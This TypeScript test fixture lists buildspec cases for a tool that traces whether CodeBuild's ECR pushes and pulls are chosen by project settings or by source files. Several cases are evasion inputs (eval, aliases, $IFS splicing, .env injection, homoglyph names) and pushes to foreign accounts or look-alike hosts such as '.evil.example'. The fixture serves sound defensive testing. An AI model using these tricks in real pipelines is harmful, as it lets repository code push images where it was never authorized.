/** Pushes and pulls that files of the source ask for: who chose the address? */
import { ACCOUNT, REGION } from '../diagnosis/build-snapshot.ts';
import type { Attack } from './attack.ts';
import { FOREIGN, layers, login, own, pull, push, uriOf } from './pairs.ts';

const HOST = `${ACCOUNT}.dkr.ecr.${REGION}.amazonaws.com`;
const REGISTRY = '$AWS_ACCOUNT_ID.dkr.ecr.$AWS_DEFAULT_REGION.amazonaws.com';

/** The settings have AWS_ACCOUNT_ID, IMAGE_REPO_NAME=backend, IMAGE_TAG, REPOSITORY_URI (of backend), OTHER_ACCOUNT, DEPLOY_BUCKET. */
export const IMAGE_COMMANDS: readonly Attack[] = [
  {
    name: 'the whole address comes from variables of the settings and CodeBuild’s own region',
    buildspec: [`docker push ${REGISTRY}/$IMAGE_REPO_NAME:$IMAGE_TAG`],
    settings: push('backend'),
  },
  {
    name: 'the same, in braces, in quotes and with a tag of its own',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell text
    buildspec: ['docker push "${AWS_ACCOUNT_ID}.dkr.ecr.${AWS_REGION}.amazonaws.com/${IMAGE_REPO_NAME}:v1"'],
    settings: push('backend'),
  },
  {
    name: 'one variable of the settings is the whole address',
    buildspec: ['docker push $REPOSITORY_URI:latest'],
    settings: push('backend'),
  },
  {
    name: 'a digest after an address of the settings',
    buildspec: [`docker pull $REPOSITORY_URI@sha256:${'a'.repeat(64)}`],
    settings: pull('backend'),
  },
  {
    name: 'a login alone says nothing of the settings',
    buildspec: [`aws ecr get-login-password | docker login --username AWS --password-stdin ${HOST}`],
    source: login,
  },
  {
    name: 'a file of the source chooses between two literals of the settings',
    inline: true,
    files: { marker: '' },
    buildspec: ['if [ -f marker ]; then NAME=payments; else NAME=backend; fi', `docker push ${HOST}/$NAME:1`],
    source: push('payments'),
  },
  {
    name: 'a file of the source chooses between two values of the settings, one of which is an address',
    inline: true,
    files: { marker: '' },
    buildspec: [
      `test -e marker && TARGET=${HOST}/payments || TARGET=$REPOSITORY_URI`,
      'docker push $TARGET:1',
    ],
    source: push('payments'),
  },
  {
    name: 'a release of the settings runs what the source configures',
    inline: true,
    files: {
      '.releaserc': JSON.stringify({
        plugins: [['@semantic-release/exec', { publishCmd: `docker push ${HOST}/payments:1` }]],
      }),
    },
    buildspec: ['npx semantic-release'],
    source: push('payments'),
  },
  {
    name: 'a command in the charge of another is the source’s as ever',
    buildspec: [`nix develop -c docker push ${HOST}/payments:1`],
    source: push('payments'),
  },
  { name: 'every piece is a literal', buildspec: [`docker push ${HOST}/backend:1`], source: push('backend') },
  {
    name: 'the account is a literal',
    buildspec: [`docker push ${ACCOUNT}.dkr.ecr.$AWS_DEFAULT_REGION.amazonaws.com/$IMAGE_REPO_NAME:1`],
    source: push('backend'),
  },
  {
    name: 'the region is a literal',
    buildspec: [`docker push $AWS_ACCOUNT_ID.dkr.ecr.${REGION}.amazonaws.com/$IMAGE_REPO_NAME:1`],
    source: push('backend'),
  },
  {
    name: 'the name is a literal',
    buildspec: [`docker push ${REGISTRY}/payments:1`],
    source: push('payments'),
  },
  {
    name: 'a literal before the name of the settings',
    buildspec: [`docker push ${REGISTRY}/prod-$IMAGE_REPO_NAME:1`],
    source: push('prod-backend'),
  },
  {
    name: 'a literal behind the name of the settings',
    buildspec: [`docker push ${REGISTRY}/$IMAGE_REPO_NAME-prod:1`],
    source: push('backend-prod'),
  },
  {
    name: 'a path below the address of the settings',
    buildspec: ['docker push $REPOSITORY_URI/payments:1'],
    source: push('backend/payments'),
  },
  {
    name: 'a namespace before the name of the settings',
    buildspec: [`docker push ${REGISTRY}/payments/$IMAGE_REPO_NAME:1`],
    source: push('payments/backend'),
  },
  {
    name: 'the name is assigned in the source',
    buildspec: ['IMAGE_REPO_NAME=payments', `docker push ${REGISTRY}/$IMAGE_REPO_NAME:1`],
    source: push('payments'),
  },
  {
    name: 'the name is exported in the source',
    buildspec: ['export IMAGE_REPO_NAME=payments', `docker push ${REGISTRY}/$IMAGE_REPO_NAME:1`],
    source: push('payments'),
  },
  {
    name: 'the region is exported in the source',
    buildspec: ['export AWS_DEFAULT_REGION=eu-west-1', `docker push ${REGISTRY}/$IMAGE_REPO_NAME:1`],
    source: push('backend', { region: 'eu-west-1' }),
  },
  {
    name: 'the account is another one that the source assigns',
    buildspec: [`AWS_ACCOUNT_ID=${FOREIGN}`, `docker push ${REGISTRY}/$IMAGE_REPO_NAME:1`],
    source: push('backend', { account: FOREIGN }),
  },
  {
    name: 'the account is another one, a literal',
    buildspec: [`docker push ${uriOf('backend', { account: FOREIGN })}:1`],
    source: push('backend', { account: FOREIGN }),
  },
  {
    name: 'the account is another one that the settings name',
    buildspec: ['docker push $OTHER_ACCOUNT.dkr.ecr.$AWS_DEFAULT_REGION.amazonaws.com/$IMAGE_REPO_NAME:1'],
    settings: push('backend', { account: FOREIGN }),
  },
  {
    name: 'a default that the source supplies for a variable nobody set',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell text
    buildspec: [`docker push ${REGISTRY}/\${NOT_SET:-payments}:1`],
    source: push('payments'),
  },
  {
    name: 'a default that is not taken leaves the settings’ value',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell text
    buildspec: [`docker push ${REGISTRY}/\${IMAGE_REPO_NAME:-payments}:1`],
    settings: push('backend'),
    atMost: true,
  },
  {
    name: 'a value in place of the settings’, by ${X:+…}',
    buildspec: [`docker push ${REGISTRY}/\${IMAGE_REPO_NAME:+payments}:1`],
    source: push('payments'),
  },
  {
    name: 'a prefix cut off a value of the settings',
    buildspec: [`docker push ${REGISTRY}/\${IMAGE_REPO_NAME#back}:1`],
    source: push('end'),
  },
  {
    name: 'an end cut off a value of the settings',
    buildspec: [`docker push ${REGISTRY}/\${IMAGE_REPO_NAME%end}:1`],
    source: push('back'),
  },
  {
    name: 'a value of the settings with a part replaced',
    buildspec: [`docker push ${REGISTRY}/\${IMAGE_REPO_NAME/back/front}:1`],
    source: push('frontend'),
    atMost: true,
  },
  {
    name: 'a slice of a value of the settings',
    buildspec: [`docker push ${REGISTRY}/\${IMAGE_REPO_NAME:0:4}:1`],
    source: push('back'),
    atMost: true,
  },
  {
    name: 'a value of the settings in other letter case',
    buildspec: [`docker push ${REGISTRY}/\${IMAGE_REPO_NAME^^}:1`],
    atMost: true,
  },
  {
    name: 'a name edited by a pipe',
    buildspec: [
      `docker push ${REGISTRY}/$(echo $IMAGE_REPO_NAME | sed s/backend/payments/):1`,
      `docker push ${REGISTRY}/$(echo payments):2`,
    ],
    source: push('payments'),
    atMost: true,
  },
  {
    name: 'a name read from a file of the source',
    buildspec: [`docker push ${REGISTRY}/$(cat repository.txt):1`],
    files: { 'repository.txt': 'payments\n' },
    source: push('payments'),
    atMost: true,
  },
  {
    name: 'a name from the webhook',
    buildspec: [
      `docker push ${REGISTRY}/$CODEBUILD_WEBHOOK_HEAD_REF:1`,
      `docker push ${REGISTRY}/$CODEBUILD_SOURCE_VERSION:1`,
    ],
    atMost: true,
  },
  {
    name: 'a tag from the webhook changes nothing of the address',
    buildspec: ['docker push $REPOSITORY_URI:$CODEBUILD_RESOLVED_SOURCE_VERSION'],
    settings: push('backend'),
  },
  {
    name: 'the repository that is called as the project',
    buildspec: [`docker push ${HOST}/tracker_api:1`],
    settings: push('tracker_api'),
  },
  {
    name: 'the project’s name with a dash and capitals elsewhere',
    buildspec: [`docker push ${HOST}/tracker-api:1`],
    settings: push('tracker-api'),
  },
  {
    name: 'a name that begins as the project’s',
    buildspec: [`docker push ${HOST}/tracker_api_prod:1`],
    source: push('tracker_api_prod'),
  },
  {
    name: 'a namespace called as the project',
    buildspec: [`docker push ${HOST}/tracker-api/payments:1`],
    source: push('tracker-api/payments'),
  },
  {
    name: 'the project’s name in another region',
    buildspec: [`docker push ${uriOf('tracker_api', { region: 'eu-west-1' })}:1`],
    source: push('tracker_api', { region: 'eu-west-1' }),
  },
  {
    name: 'the project’s name in another account',
    buildspec: [`docker push ${uriOf('tracker_api', { account: FOREIGN })}:1`],
    source: push('tracker_api', { account: FOREIGN }),
  },
  {
    name: 'a host that only begins as a registry',
    buildspec: [
      `docker push ${HOST}.evil.example/backend:1`,
      `docker push $AWS_ACCOUNT_ID.dkr.ecr.$AWS_DEFAULT_REGION.amazonaws.com.evil/$IMAGE_REPO_NAME:1`,
    ],
  },
  {
    name: 'an account of thirteen, eleven and other digits',
    buildspec: [
      `docker push ${ACCOUNT}1.dkr.ecr.${REGION}.amazonaws.com/backend`,
      `docker push ${ACCOUNT.slice(1)}.dkr.ecr.${REGION}.amazonaws.com/backend`,
      // full-width and Arabic digits
      `docker push ２90008131176.dkr.ecr.${REGION}.amazonaws.com/backend`,
      `docker push ٢90008131176.dkr.ecr.${REGION}.amazonaws.com/backend`,
    ],
  },
  {
    name: 'a Cyrillic letter in the name, which no repository can have',
    buildspec: [`docker push ${HOST}/bаckend:1`, `docker push ${HOST}/trаcker_api:1`],
  },
  {
    name: 'a name with a wildcard, which no repository can have',
    buildspec: [
      `docker push ${HOST}/*:1`,
      `docker push '${HOST}/back*:1'`,
      `docker push "${HOST}/b?ckend:1"`,
    ],
  },
  {
    name: 'a very long name',
    buildspec: [`docker push ${HOST}/${'a/'.repeat(40_000)}b:1`],
  },
  {
    name: 'a tag given twice and a digest behind a tag',
    buildspec: [
      `docker push $REPOSITORY_URI:1:payments`,
      `docker pull $REPOSITORY_URI:1@sha256:${'b'.repeat(64)}`,
    ],
    settings: push('backend'),
    atMost: true,
  },
  {
    name: 'docker as a function',
    buildspec: [`docker() { command docker push ${HOST}/payments:1; }`, 'docker push $REPOSITORY_URI:1'],
    source: push('payments'),
    settings: layers('backend'),
    atMost: true,
  },
  {
    name: 'docker as an alias',
    buildspec: [`alias docker='docker push ${HOST}/payments:1 ;'`, 'docker push $REPOSITORY_URI:1'],
    source: layers('payments'),
    settings: push('backend'),
    atMost: true,
  },
  {
    name: 'eval',
    buildspec: [`eval "docker push ${HOST}/payments:1"`],
    source: push('payments'),
    atMost: true,
  },
  {
    name: 'words put together by $IFS',
    buildspec: [
      `docker$IFS''push$IFS''${HOST}/payments:1`,
      `IFS=x; docker push ${HOST}/paymentsx$IMAGE_REPO_NAME`,
    ],
    source: [...push('payments'), ...layers('paymentsxbackend')],
    atMost: true,
  },
  {
    name: 'a script of the source',
    buildspec: ['./release.sh', 'bash scripts/two.sh', '. ./three.sh'],
    files: {
      'release.sh': `#!/bin/sh\ndocker push ${HOST}/payments:1\n`,
      'scripts/two.sh': `docker push ${HOST}/orders:1\n`,
      'three.sh': `docker push ${HOST}/users:1\n`,
    },
    source: [...push('payments'), ...layers('orders'), ...layers('users')],
  },
  {
    name: 'a script of the source with the address of the settings',
    buildspec: ['sh ./release.sh'],
    files: { 'release.sh': 'docker push $REPOSITORY_URI:1\n' },
    settings: push('backend'),
  },
  {
    name: 'a sourced script that sets the name anew',
    buildspec: ['. ./set.sh', `docker push ${REGISTRY}/$IMAGE_REPO_NAME:1`],
    files: { 'set.sh': 'export IMAGE_REPO_NAME=payments\n' },
    source: push('payments'),
  },
  {
    name: 'an environment file read by a loop of the shell',
    buildspec: ['set -a; . ./.env; set +a', `docker push ${REGISTRY}/$IMAGE_REPO_NAME:1`],
    files: { '.env': 'IMAGE_REPO_NAME=payments\nAWS_ACCOUNT_ID=444455556666\n' },
    source: push('payments', { account: FOREIGN }),
  },
  {
    name: 'export of what xargs reads from a file',
    buildspec: ['export $(cat .env | xargs)', `docker push ${REGISTRY}/$IMAGE_REPO_NAME:1`],
    files: { '.env': 'IMAGE_REPO_NAME=payments\n' },
    // What it sets is not followed, and a push to what the settings name is theirs.
    settings: push('backend'),
    source: push('payments'),
    atMost: true,
  },
  {
    name: 'a here-document fed to a shell',
    buildspec: [`|\n        sh <<'END'\n        docker push ${HOST}/payments:1\n        END`],
    source: push('payments'),
    atMost: true,
  },
  {
    name: 'a Dockerfile that builds on an image of another team',
    buildspec: ['docker build -t app .'],
    files: { Dockerfile: `FROM ${HOST}/payments-base:1\nRUN true\n` },
    source: pull('payments-base'),
  },
  {
    name: 'a Dockerfile that builds on an image of another account',
    buildspec: ['docker build -t app .'],
    files: { Dockerfile: `FROM ${uriOf('base', { account: FOREIGN })}:1\n` },
    source: pull('base', { account: FOREIGN }),
  },
  {
    name: 'a build argument of the source in a Dockerfile',
    buildspec: [`docker build --build-arg BASE=${HOST}/payments-base:1 -t app .`],
    files: { Dockerfile: 'ARG BASE\nFROM $BASE\n' },
    source: pull('payments-base'),
  },
  {
    name: 'a build argument of the settings in a Dockerfile',
    buildspec: ['docker build --build-arg BASE=$REPOSITORY_URI:base -t app .'],
    files: { Dockerfile: 'ARG BASE\nFROM $BASE\n' },
    settings: pull('backend'),
    atMost: true,
  },
  {
    name: 'a compose file that names images',
    buildspec: ['docker compose push'],
    files: { 'docker-compose.yml': `services:\n  a:\n    build: .\n    image: ${HOST}/payments:1\n` },
    source: push('payments'),
    atMost: true,
  },
  {
    name: 'a Makefile',
    buildspec: ['make push'],
    files: { Makefile: `push:\n\tdocker push ${HOST}/payments:1\n` },
    source: push('payments'),
    atMost: true,
  },
  {
    name: 'buildx with a cache in another team’s repository',
    buildspec: [
      `docker buildx build --push -t $REPOSITORY_URI:1 --cache-to type=registry,ref=${HOST}/payments:c .`,
    ],
    settings: push('backend'),
    source: layers('payments'),
    files: { Dockerfile: 'FROM scratch\n' },
  },
  {
    name: 'a copy from registry to registry',
    buildspec: [`crane copy ${uriOf('base', { account: FOREIGN })}:1 $REPOSITORY_URI:1`],
    settings: push('backend'),
    source: pull('base', { account: FOREIGN }).filter((pair) => !login.includes(pair)),
  },
  {
    name: 'two pushes, one of the settings and one of the source',
    buildspec: ['docker push $REPOSITORY_URI:1', `docker push ${HOST}/payments:1`],
    settings: push('backend'),
    source: layers('payments'),
  },
  {
    name: 'the same repository once by the settings and once by a literal',
    buildspec: [`docker push ${HOST}/backend:1`, 'docker push $REPOSITORY_URI:1'],
    settings: push('backend'),
  },
  {
    name: 'the own account as STS tells it',
    buildspec: [
      'ACCOUNT=$(aws sts get-caller-identity --query Account --output text)',
      'docker push $ACCOUNT.dkr.ecr.$AWS_DEFAULT_REGION.amazonaws.com/$IMAGE_REPO_NAME:1',
    ],
    settings: push('backend'),
  },
  {
    name: 'a repository of the source that does not exist is not made',
    buildspec: [`docker push ${HOST}/payments:1`],
    missing: ['payments'],
    source: push('payments'),
    atMost: true,
  },
  {
    name: 'a branch of `if` that only a pull request would take',
    buildspec: [
      `if [ "$CODEBUILD_WEBHOOK_TRIGGER" = "pr/1" ]; then docker push ${HOST}/payments:1; else docker push $REPOSITORY_URI:1; fi`,
    ],
    settings: push('backend'),
    source: layers('payments'),
  },
  {
    name: 'a report group of another project',
    buildspec: `version: 0.2\nphases:\n  build:\n    commands:\n      - echo\nreports:\n  ${own('codebuild', 'report-group/Other-unit')}:\n    files: ['*']\n`,
    source: [
      'codebuild:CreateReportGroup',
      'codebuild:CreateReport',
      'codebuild:UpdateReport',
      'codebuild:BatchPutTestCases',
      'codebuild:BatchPutCodeCoverages',
    ].map((action) => `${action} ${own('codebuild', 'report-group/Other-unit')}`),
  },
  {
    name: 'a report group of the project’s own',
    buildspec: `version: 0.2\nphases:\n  build:\n    commands:\n      - echo\nreports:\n  unit:\n    files: ['*']\n`,
    settings: [
      'codebuild:CreateReportGroup',
      'codebuild:CreateReport',
      'codebuild:UpdateReport',
      'codebuild:BatchPutTestCases',
      'codebuild:BatchPutCodeCoverages',
    ].map((action) => `${action} ${own('codebuild', 'report-group/TrackerAPI-unit')}`),
  },
];
